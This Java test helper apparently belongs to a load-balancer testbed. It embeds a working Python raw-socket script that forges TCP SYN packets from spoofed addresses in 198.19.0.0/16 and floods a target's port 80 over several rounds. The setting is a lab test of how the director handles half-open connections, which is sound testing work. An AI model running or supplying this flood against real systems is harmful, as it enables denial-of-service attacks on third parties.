package org.jlvs.testbed.director;

import static org.assertj.core.api.Assertions.assertThat;
import static org.jlvs.testbed.director.DirectorLab.PATIENCE;

import org.jlvs.testbed.namespaces.Background;
import org.jlvs.testbed.namespaces.Host;

/** SYNs of made-up clients that never go on, each sent several times. */
final class SynFlood {
  private static final String SCRIPT =
      """
      import socket, struct, sys, time
      def total(data):
          value = sum(struct.unpack('!%dH' % (len(data) // 2), data))
          while value >> 16: value = (value & 0xffff) + (value >> 16)
          return ~value & 0xffff
      target, clients, rounds = socket.inet_aton(sys.argv[1]), int(sys.argv[2]), int(sys.argv[3])
      sender = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
      for turn in range(rounds):
          if turn: time.sleep(0.7)
          for client in range(clients):
              source = struct.pack('!I', 0xc6130000 + client)
              tcp = struct.pack('!HHIIHHHH', 40000, 80, 1, 0, 0x5002, 65535, 0, 0)
              check = total(source + target + struct.pack('!HH', 6, len(tcp)) + tcp)
              tcp = tcp[:16] + struct.pack('!H', check) + tcp[18:]
              head = struct.pack('!BBHHHBBH', 0x45, 0, 40, client, 0, 64, 6, 0) + source + target
              sender.sendto(head + tcp, (sys.argv[1], 0))
      """;

  private SynFlood() {}

  /**
   * Sends them to port 80 and waits until all are sent.
   *
   * @param clients how many there seem to be, in 198.19.0.0/16
   * @param rounds how often each of them seems to try, 0.7 seconds apart
   */
  static void send(Host from, String target, int clients, int rounds) {
    Background flood =
        from.start(
            "python3", "-c", SCRIPT, target, Integer.toString(clients), Integer.toString(rounds));
    assertThat(flood.awaitEnd(PATIENCE)).as("the flood ends: %s", flood.output()).isTrue();
    assertThat(flood.status()).as(flood.output()).isZero();
  }
}
